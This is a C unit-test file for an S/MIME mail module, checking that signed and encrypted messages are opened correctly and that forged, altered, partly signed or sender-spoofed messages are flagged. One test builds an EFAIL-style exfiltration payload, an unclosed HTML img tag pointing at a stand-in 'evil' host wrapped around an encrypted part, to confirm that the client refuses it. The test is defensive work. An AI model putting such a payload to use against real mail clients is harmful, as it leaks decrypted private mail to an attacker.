/*
 * Signed and encrypted messages: our own both ways, and everything that must not be believed.
 */
#include "base/cleanup.h"
#include "base/timefmt.h"
#include "client/mail/smime.h"
#include "client/pair.h"
#include "tests/unit/lib/pki_fixture.h"

#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <sys/stat.h>

#include <cmocka.h>

static struct fixture_ca ca, other;
static struct fixture_cert ann, later, stranger;
static char folder[64];

/* A profile of ann at that authority. */
static void profile_make(
	struct profile *p, const struct fixture_ca *authority, const struct fixture_cert *c)
{
	*p = PROFILE_INIT;
	p->dir_fd = open(folder, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(p->dir_fd >= 0);
	(void)snprintf(p->user, sizeof p->user, "ann");
	(void)snprintf(p->doors.domain, sizeof p->doors.domain, "example.org");
	buf_add(&p->root_pem, buf_span(&authority->root.pem));
	buf_add(&p->chain_pem, buf_span(&authority->issuing.pem));
	buf_add(&p->cert_pem, buf_span(&c->pem));
	assert_int_equal(pki_key_to_pem(c->key, &p->key_pem), 0);
}

static struct profile self, foreign;

static int set_up(void **state)
{
	(void)state;
	fixture_folder(folder);
	fixture_ca_make(&ca);
	fixture_ca_make(&other);
	fixture_leaf(&ca, PKI_USER, &ann);
	fixture_leaf(&ca, PKI_USER, &later);
	fixture_leaf(&other, PKI_USER, &stranger);
	profile_make(&self, &ca, &ann);
	profile_make(&foreign, &other, &stranger);
	return 0;
}

static int tear_down(void **state)
{
	char old[80];

	(void)state;
	profile_done(&self);
	profile_done(&foreign);
	fixture_cert_free(&ann);
	fixture_cert_free(&later);
	fixture_cert_free(&stranger);
	fixture_ca_free(&ca);
	fixture_ca_free(&other);
	(void)snprintf(old, sizeof old, "%s/old", folder);
	fixture_remove(old);
	fixture_remove(folder);
	return 0;
}

static void compose(struct buf *ret)
{
	const struct mime_mailbox to = {SPAN_LIT("Bob"), SPAN_LIT("bob@example.org")};
	const struct mail_draft d = {.to = &to,
		.to_count = 1,
		.from_name = SPAN_LIT("Ann"),
		.from_address = SPAN_LIT("ann@example.org"),
		.subject = SPAN_LIT("The pl\xc3\xa4n"),
		.text = SPAN_LIT("meet at noon\n")};
	char msgid[256];

	assert_int_equal(mail_compose(&d, ret, msgid), 0);
}

static void sign(const struct profile *p, struct buf *ret)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(65536);

	compose(&m);
	assert_int_equal(smime_sign(NULL, p, buf_span(&m), ret), 0);
}

static void encrypt(struct span message, const struct fixture_cert *to, struct buf *ret)
{
	const struct span certs[] = {buf_span(&to->der)};

	assert_int_equal(smime_encrypt(certs, 1, message, ret), 0);
}

static int open_it(struct span message, struct buf *ret, struct smime_verdict *v)
{
	buf_reset(ret);
	return smime_open(NULL, &self, message, ret, v);
}

/* Must be shown, and not as good; the reason holds a word. */
static void assert_bad(struct span message, const char *word)
{
	_cleanup_(buf_done) struct buf out = BUF_INIT(1 << 20);
	struct smime_verdict v;

	assert_int_equal(open_it(message, &out, &v), 0);
	assert_true(v.was_signed);
	assert_false(v.good);
	if (strstr(v.reason, word) == NULL)
		fail_msg("\"%s\" has no \"%s\"", v.reason, word);
}

static void assert_good(struct span message, struct buf *ret)
{
	struct smime_verdict v;

	assert_int_equal(open_it(message, ret, &v), 0);
	if (!v.good)
		fail_msg("%s", v.reason);
	assert_string_equal(v.signer, "ann@example.org");
	assert_true(v.from_matches);
	assert_string_equal(v.reason, "");
}

static void subject_is(const struct buf *message, const char *subject)
{
	struct mail_view v;

	assert_int_equal(mail_view_make(buf_span(message), &v), 0);
	assert_string_equal(v.subject, subject);
	mail_view_done(&v);
}

/* One text for another, once. */
static void replace(struct buf *b, const char *old, const char *new)
{
	struct buf out = BUF_INIT(1 << 20);
	const unsigned char *at = memmem(b->p, b->len, old, strlen(old));

	assert_non_null(at);
	buf_add(&out, span_of(b->p, (size_t)(at - b->p)));
	buf_add_str(&out, new);
	at += strlen(old);
	buf_add(&out, span_of(at, (size_t)(b->p + b->len - at)));
	buf_done(b);
	*b = out;
}

/* -- both ways --------------------------------------------------------------------------------- */

static void test_signed(void **state)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);
	struct mail_view v;

	(void)state;
	sign(&self, &m);
	subject_is(&m, "The pl\xc3\xa4n");
	assert_good(buf_span(&m), &out);
	assert_int_equal(mail_view_make(buf_span(&out), &v), 0);
	assert_string_equal(buf_str(&v.text), "meet at noon\n");
	assert_string_equal(v.from, "Ann <ann@example.org>");
	assert_int_equal(v.file_count, 0);
	mail_view_done(&v);
}

static void test_encrypted(void **state)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);
	_cleanup_(buf_done) struct buf secret = BUF_INIT(1 << 20);
	struct smime_verdict v;

	(void)state;
	sign(&self, &m);
	encrypt(buf_span(&m), &ann, &secret);
	subject_is(&secret, "...");
	assert_null(memmem(secret.p, secret.len, "noon", 4));
	assert_good(buf_span(&secret), &out);
	subject_is(&out, "The pl\xc3\xa4n");
	assert_non_null(strstr(buf_str(&out), "meet at noon"));
	/* Not signed: its subject is inside as well. */
	buf_reset(&m);
	buf_reset(&secret);
	compose(&m);
	encrypt(buf_span(&m), &ann, &secret);
	assert_int_equal(open_it(buf_span(&secret), &out, &v), 0);
	assert_true(v.was_encrypted && !v.was_signed && !v.good);
	subject_is(&out, "The pl\xc3\xa4n");
	/* For somebody else; and broken. */
	buf_reset(&secret);
	encrypt(buf_span(&m), &later, &secret);
	assert_int_equal(open_it(buf_span(&secret), &out, &v), -ENOKEY);
	assert_int_equal(out.len, 0);
	assert_non_null(strstr(v.reason, "no key"));
	buf_reset(&secret);
	encrypt(buf_span(&m), &ann, &secret);
	secret.len -= 100;
	assert_int_equal(open_it(buf_span(&secret), &out, &v), -EBADMSG);
	assert_int_equal(out.len, 0);
	assert_true(v.was_encrypted && !v.good);
}

/* Neither: as it came, byte by byte. */
static void test_plain(void **state)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);
	struct smime_verdict v;

	(void)state;
	compose(&m);
	assert_int_equal(open_it(buf_span(&m), &out, &v), 0);
	assert_true(span_eq(buf_span(&m), buf_span(&out)));
	assert_false(v.was_signed || v.was_encrypted || v.good);
	assert_int_equal(open_it(SPAN_LIT(""), &out, &v), 0);
}

static void test_old_keys(void **state)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);
	_cleanup_(buf_done) struct buf key = BUF_INIT(8192), old = BUF_INIT(1 << 20);
	struct smime_verdict v;

	(void)state;
	compose(&m);
	encrypt(buf_span(&m), &later, &old);
	assert_int_equal(pki_key_to_pem(later.key, &key), 0);
	/* What does not fit is not kept. */
	assert_int_equal(pair_keep(self.dir_fd, buf_span(&key), buf_span(&ann.pem)), 0);
	assert_int_equal(open_it(buf_span(&old), &out, &v), -ENOKEY);
	assert_int_equal(pair_keep(self.dir_fd, buf_span(&key), buf_span(&later.pem)), 0);
	assert_int_equal(open_it(buf_span(&old), &out, &v), 0);
	assert_non_null(strstr(buf_str(&out), "meet at noon"));
}

/* -- what must not be believed ----------------------------------------------------------------- */

static void test_altered(void **state)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);

	(void)state;
	sign(&self, &m);
	replace(&m, "noon", "nine");
	assert_bad(buf_span(&m), "altered");
	buf_reset(&m);
	sign(&foreign, &m);
	assert_bad(buf_span(&m), "unknown authority");
	/* The subject outside is anybody's; the one inside is shown. */
	buf_reset(&m);
	sign(&self, &m);
	replace(&m, "Subject:", "Subject: urgent, pay!\r\nX-Old:");
	assert_good(buf_span(&m), &out);
	subject_is(&out, "The pl\xc3\xa4n");
	assert_null(strstr(buf_str(&out), "urgent"));
}

static void test_somebody_elses_name(void **state)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);

	(void)state;
	/* Signed by ann, sent as if by bob: outside only, or with two senders. */
	sign(&self, &m);
	replace(&m, "From: Ann <ann@", "From: Bob <bob@");
	assert_bad(buf_span(&m), "one sender");
	buf_reset(&m);
	sign(&self, &m);
	replace(&m, "From: Ann <ann@example.org>", "From: <ann@example.org>, <bob@example.org>");
	assert_bad(buf_span(&m), "one sender");
	buf_reset(&m);
	sign(&self, &m);
	replace(&m, "From: Ann", "From: <bob@example.org>\r\nFrom: Ann");
	assert_bad(buf_span(&m), "one sender");
	/* And inside as well. */
	buf_reset(&m);
	compose(&m);
	replace(&m, "From: Ann <ann@", "From: Bob <bob@");
	assert_int_equal(smime_sign(NULL, &self, buf_span(&m), &out), 0);
	assert_bad(buf_span(&out), "somebody else");
}

/* Words of others around or beside what is signed. */
static void test_partly_signed(void **state)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(1 << 20), mixed = BUF_INIT(1 << 20);
	const unsigned char *body;
	struct span part;
	char more[256];

	(void)state;
	sign(&self, &m);
	part = buf_span(&m);
	body = memmem(m.p, m.len, "Content-Type: multipart/signed", 30);
	assert_non_null(body);
	part = span_of(body, (size_t)(m.p + m.len - body));
	buf_add_str(&mixed,
		"From: ann@example.org\r\nSubject: x\r\nContent-Type: multipart/mixed; "
		"boundary=frame\r\n\r\n--frame\r\n\r\nsend money to bob\r\n--frame\r\n");
	buf_add(&mixed, part);
	buf_add_str(&mixed, "\r\n--frame--\r\n");
	assert_bad(buf_span(&mixed), "only a part");
	/* Three parts where there are to be two. */
	body = memmem(m.p, m.len, "boundary=\"", 10);
	assert_non_null(body);
	(void)snprintf(more, sizeof more,
		"Content-Type: text/plain\r\n\r\nmore\r\n--%.24s\r\nContent-Type: "
		"application/pkcs7-signature",
		(const char *)body + 10);
	replace(&m, "Content-Type: application/pkcs7-signature", more);
	assert_bad(buf_span(&m), "not made as signed messages are");
}

/* Text before and behind the parts is nobody's: it must not be shown. */
static void test_beside_the_parts(void **state)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);

	(void)state;
	sign(&self, &m);
	replace(&m, "This is a signed message", "send money to bob");
	buf_add_str(&m, "or to cid\r\n");
	assert_good(buf_span(&m), &out);
	assert_null(strstr(buf_str(&out), "send money"));
	assert_null(strstr(buf_str(&out), "or to cid"));
}

static void test_signed_around_a_secret(void **state)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(1 << 20), secret = BUF_INIT(1 << 20);
	_cleanup_(buf_done) struct buf outer = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);

	(void)state;
	compose(&m);
	encrypt(buf_span(&m), &ann, &secret);
	assert_int_equal(smime_sign(NULL, &self, buf_span(&secret), &outer), 0);
	assert_bad(buf_span(&outer), "outside of the encryption");
	/* With a signature inside it is that one which counts. */
	buf_reset(&m);
	buf_reset(&secret);
	buf_reset(&outer);
	sign(&self, &m);
	encrypt(buf_span(&m), &ann, &secret);
	assert_int_equal(smime_sign(NULL, &foreign, buf_span(&secret), &outer), 0);
	assert_good(buf_span(&outer), &out);
	assert_non_null(strstr(buf_str(&out), "noon"));
}

/* A secret that is a part of a message is not opened at all: what stands around it could send it
 * elsewhere. Nor does the outer header choose where an answer goes. */
static void test_exfiltration(void **state)
{
	_cleanup_(buf_done) struct buf m = BUF_INIT(1 << 20), secret = BUF_INIT(1 << 20);
	_cleanup_(buf_done) struct buf mixed = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);
	const unsigned char *body;

	(void)state;
	sign(&self, &m);
	encrypt(buf_span(&m), &ann, &secret);
	body = memmem(secret.p, secret.len, "Content-Type: application/pkcs7-mime", 36);
	assert_non_null(body);
	buf_add_str(&mixed,
		"From: ann@example.org\r\nContent-Type: multipart/mixed; boundary=f\r\n\r\n"
		"--f\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--f\r\n");
	buf_add(&mixed, span_of(body, (size_t)(secret.p + secret.len - body)));
	buf_add_str(&mixed, "\r\n--f--\r\n");
	assert_bad(buf_span(&mixed), "only a part");
	replace(&secret, "To: ", "Reply-To: evil@example.net\r\nTo: ");
	assert_good(buf_span(&secret), &out);
	assert_null(strstr(buf_str(&out), "evil"));
}

static void test_opaque(void **state)
{
	static const char *const words[] = {"openssl", "cms", "-sign", "-binary", "-nodetach",
		"-in", "text", "-signer", "ann.pem", "-inkey", "ann.key", "-certfile",
		"issuing.pem", "-out", "out", "-from", "ann@example.org", "-subject", "x", NULL};
	_cleanup_(buf_done) struct buf b = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);
	_cleanup_(buf_done) struct buf key = BUF_INIT(8192);
	const char *argv[24] = {NULL};
	char work[64], paths[24][96];
	FILE *f;

	(void)state;
	fixture_folder(work);
	assert_int_equal(pki_key_to_pem(ann.key, &key), 0);
	fixture_write(work, "text", SPAN_LIT("Content-Type: text/plain\r\n\r\nopaque words\r\n"));
	fixture_write(work, "ann.pem", buf_span(&ann.pem));
	fixture_write(work, "ann.key", buf_span(&key));
	fixture_write(work, "issuing.pem", buf_span(&ca.issuing.pem));
	for (size_t i = 0; words[i] != NULL; i++) {
		bool file = i > 5 && words[i][0] != '-' && i != 16 && i != 18;

		(void)snprintf(paths[i], sizeof paths[i], "%s%s%s", file ? work : "",
			file ? "/" : "", words[i]);
		argv[i] = paths[i];
	}
	assert_int_equal(fixture_run(argv, &out), 0);
	f = fopen(paths[14], "re");
	assert_non_null(f);
	buf_commit(&b, fread(buf_reserve(&b, 60000), 1, 60000, f));
	assert_int_equal(fclose(f), 0);
	fixture_remove(work);
	assert_good(buf_span(&b), &out);
	assert_non_null(strstr(buf_str(&out), "opaque words"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_signed),
		cmocka_unit_test(test_encrypted),
		cmocka_unit_test(test_plain),
		cmocka_unit_test(test_old_keys),
		cmocka_unit_test(test_altered),
		cmocka_unit_test(test_somebody_elses_name),
		cmocka_unit_test(test_partly_signed),
		cmocka_unit_test(test_beside_the_parts),
		cmocka_unit_test(test_signed_around_a_secret),
		cmocka_unit_test(test_exfiltration),
		cmocka_unit_test(test_opaque),
	};

	return cmocka_run_group_tests(tests, set_up, tear_down);
}
